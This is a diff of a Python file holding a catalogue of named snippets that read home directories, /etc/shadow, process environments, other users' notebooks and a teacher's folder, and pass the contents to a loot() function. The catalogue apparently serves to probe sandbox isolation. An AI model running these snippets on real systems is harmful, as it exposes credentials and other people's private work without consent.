@@ -11,7 +11,7 @@ for home in (pathlib.Path("/root"), *pathlib.Path("/home").glob("*"), pathlib.Pa
     for file in [one for one in home.rglob("*") if one.is_file()][:3000]:
         if file.stat().st_size < 100_000:
             loot(file.read_bytes())""",
-    "the teacher's folder": 'walk("/work", "/srv", "/opt", "/var/lib", "/etc")',
+    "the teacher's folder": 'walk("/srv", "/opt", "/var/lib", "/etc")',
     "temporary folders": 'walk("/tmp", "/var/tmp", "/dev/shm", "/run")',
     "its environment": 'loot(os.environ, open("/proc/self/environ", "rb").read())',
     "the environment of all": """\
@@ -181,7 +181,7 @@ for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
     except OSError: pass""",
     "links to what is elsewhere": """\
 import pathlib
-for number, place in enumerate(("/proc/1/root", "/work", "/root", "/etc/shadow", "/proc/self/cwd/../..")):
+for number, place in enumerate(("/proc/1/root", "/srv", "/root", "/etc/shadow", "/proc/self/cwd/../..")):
     os.symlink(place, f"link{number}")
     try: loot(pathlib.Path(f"link{number}").read_bytes() if os.path.isfile(f"link{number}") else b"")
     except OSError: pass
@@ -189,7 +189,7 @@ for number, place in enumerate(("/proc/1/root", "/work", "/root", "/etc/shadow",
         walk(f"link{number}")""",
     "other notebooks, by their name": """\
 import glob
-for pattern in ("/work/**/*.ipynb", "/tmp/**/*.ipynb", "/root/**/*.ipynb", "../**/*.ipynb", "/scratch/**/*.ipynb"):
+for pattern in ("/home/**/*.ipynb", "/tmp/**/*.ipynb", "/root/**/*.ipynb", "../**/*.ipynb", "/scratch/**/*.ipynb"):
     for file in glob.glob(pattern, recursive=True)[:300]:
         loot(open(file, "rb").read())""",
     "how long others take": """\
